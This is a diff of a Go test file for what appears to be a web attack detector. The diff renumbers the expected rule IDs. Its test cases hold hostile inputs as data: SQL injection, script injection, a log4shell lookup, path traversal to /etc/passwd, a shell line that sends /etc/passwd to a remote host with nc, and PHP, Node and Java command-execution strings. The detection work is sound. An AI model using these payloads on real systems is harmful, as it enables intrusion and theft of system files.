@@ -74,23 +74,23 @@ func TestAttacksAreFoundWhereTheyStand(t *testing.T) {
 		place verdict.Place
 		path  string
 	}{
-		{"SQL in the query", request(object{"rawQueryString": "a=1&q=1%27%20or%20%271%27%3D%271%27%20union%20select%20user%20from%20users--"}), 942100, verdict.PlaceQuery, "rawQueryString.q"},
-		{"SQL in a form", request(object{"body": "a=1&q=" + sqli}), 942100, verdict.PlaceBody, "body.q"},
-		{"SQL in JSON", request(object{"body": `{"a":[1,{"q":"` + sqli + `"}]}`}), 942100, verdict.PlaceBody, "body.a[1].q"},
+		{"SQL in the query", request(object{"rawQueryString": "a=1&q=1%27%20or%20%271%27%3D%271%27%20union%20select%20user%20from%20users--"}), 9100808, verdict.PlaceQuery, "rawQueryString.q"},
+		{"SQL in a form", request(object{"body": "a=1&q=" + sqli}), 9100808, verdict.PlaceBody, "body.q"},
+		{"SQL in JSON", request(object{"body": `{"a":[1,{"q":"` + sqli + `"}]}`}), 9100808, verdict.PlaceBody, "body.a[1].q"},
 		{"script in text", request(object{"body": "one\n" + xss}), 941110, verdict.PlaceBody, "body"},
 		{"script in a cookie", request(object{"cookies": []string{"a=1", "s=" + xss}}), 941110, verdict.PlaceCookie, "cookies[1].s"},
 		{"script in a header", headers("referer", "https://a/?"+xss), 941110, verdict.PlaceHeader, "headers.referer"},
 		{"log4shell in a header", headers("x-api-version", "${jndi:ldap://198.51.100.1/a}"), 944150, verdict.PlaceHeader, "headers.x-api-version"},
 		{"scanner", headers("user-agent", "sqlmap/1.8"), 913100, verdict.PlaceHeader, "headers.user-agent"},
 		{"traversal in the path", request(object{"rawPath": "/a/../../../etc/passwd"}), 930100, verdict.PlaceTarget, "request_uri_raw"},
-		{"file in an argument", request(object{"body": `{"f":"../../../../etc/passwd"}`}), 930120, verdict.PlaceBody, "body.f"},
-		{"shell in an argument", object{"cmd": "x; cat /etc/passwd | nc 198.51.100.1 4444"}, 932160, verdict.PlaceArgument, "cmd"},
-		{"PHP in an argument", object{"c": "<?php system($_GET['x']); ?>"}, 933100, verdict.PlaceArgument, "c"},
-		{"Node in an argument", object{"t": "require('child_process').exec('id')"}, 934100, verdict.PlaceArgument, "t"},
+		{"file in an argument", request(object{"body": `{"f":"../../../../etc/passwd"}`}), 9100208, verdict.PlaceBody, "body.f"},
+		{"shell in an argument", object{"cmd": "x; cat /etc/passwd | nc 198.51.100.1 4444"}, 9100402, verdict.PlaceArgument, "cmd"},
+		{"PHP in an argument", object{"c": "<?php system($_GET['x']); ?>"}, 9100550, verdict.PlaceArgument, "c"},
+		{"Node in an argument", object{"t": "require('child_process').exec('id')"}, 9100501, verdict.PlaceArgument, "t"},
 		{"Java in an argument", object{"c": "java.lang.Runtime.getRuntime().exec('id')"}, 944100, verdict.PlaceArgument, "c"},
 		{"script in a context header", nil, 941110, verdict.PlaceContext, `["context:Client-Context"].custom.x`},
 		{"second path", request(object{"path": "/x?" + xss}), 941110, verdict.PlacePath, "path"},
-		{"SQL in a record", object{"Records": []any{object{"eventSource": "aws:sqs", "body": "fine"}, object{"body": object{"q": sqli}}}}, 942100, verdict.PlaceArgument, "Records[1].body.q"},
+		{"SQL in a record", object{"Records": []any{object{"eventSource": "aws:sqs", "body": "fine"}, object{"body": object{"q": sqli}}}}, 9100808, verdict.PlaceArgument, "Records[1].body.q"},
 	}
 	e := build(t, screened)
 	for _, tt := range tests {
